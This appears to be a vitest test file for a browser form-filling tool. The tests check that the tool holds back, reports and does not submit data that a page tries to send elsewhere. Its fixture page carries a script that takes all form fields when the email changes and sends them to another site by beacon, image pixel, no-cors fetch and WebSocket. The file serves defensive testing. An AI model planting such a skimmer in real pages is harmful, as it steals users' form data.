import { expect, it } from 'vitest';
import type { ReviewQuestion } from '#main/forms/apply/apply-request.ts';
import type { HeldBack } from '#shared/domain/form.ts';
import { apply } from '../apply-harness.ts';
import { onSites } from './on-sites.ts';
import { asPage, QUESTIONS } from './serve-site.ts';

const { browser, sites } = await onSites();

it('what was held while a form was filled in is shown at its review and told after, with where it would have gone', async () => {
  const live = sites.other.replace('http:', 'ws:');
  const url = sites.page(
    '/leaks',
    asPage(
      `<form id="f" action="/receive" method="post">${QUESTIONS}<button>Submit application</button></form><script>
        f.email.onchange = () => {
          const all = new URLSearchParams(new FormData(f)).toString();
          navigator.sendBeacon('${sites.other}/beacon', all);
          new Image().src = '${sites.other}/seen.gif?' + all;
          fetch('${sites.other}/x/' + Math.random(), { method: 'POST', mode: 'no-cors', body: all }).catch(() => 0);
          try { new WebSocket('${live}/live?' + all); } catch {}
        };
      </script>`,
    ),
  );
  let shown: HeldBack[] = [];
  const review = async ({ held }: ReviewQuestion) => {
    shown = held;
    return { decision: 'stop' } as const;
  };
  const { report } = await apply(browser.host, { url, hooks: { review } });
  expect(sites.leaked()).toEqual([]);
  expect(report.submitted).toBe(false);
  expect(shown).toEqual(report.held);
  expect(report.held).toEqual(
    expect.arrayContaining([
      // Both are told by the address of the one that came first.
      expect.objectContaining({
        ...{ method: 'POST', carried: 2, times: 2 },
        url: expect.stringMatching(new RegExp(`^${sites.other}/(beacon|x/)`)),
      }),
      expect.objectContaining({ method: 'GET', url: `${sites.other}/seen.gif`, carried: 2, times: 1 }),
      expect.objectContaining({ method: 'WEBSOCKET', url: `${live}/live`, carried: null }),
    ]),
  );
  expect(report.held?.[0]?.carried).toBe(2);
});

it('a form of which nothing was held is told without', async () => {
  const url = sites.page(
    '/quiet',
    asPage(`<form action="/receive" method="post">${QUESTIONS}<button>Submit application</button></form>`),
  );
  const { report } = await apply(browser.host, { url, canSubmit: false });
  expect(report).not.toHaveProperty('held');
});
